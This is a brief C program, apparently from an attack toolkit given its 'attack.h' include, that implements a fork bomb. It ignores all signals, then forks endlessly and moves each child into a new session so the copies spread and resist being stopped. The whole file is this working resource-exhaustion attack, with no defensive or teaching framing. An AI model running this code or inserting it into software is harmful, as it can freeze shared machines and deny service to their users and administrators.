// Doubles as fast as it can, each copy in a session of its own and deaf to signals.
#include "attack.h"

int main(void) {
  for (int i = 1; i < NSIG; ++i) signal(i, SIG_IGN);
  for (;;) {
    fork();
    setsid();
  }
}
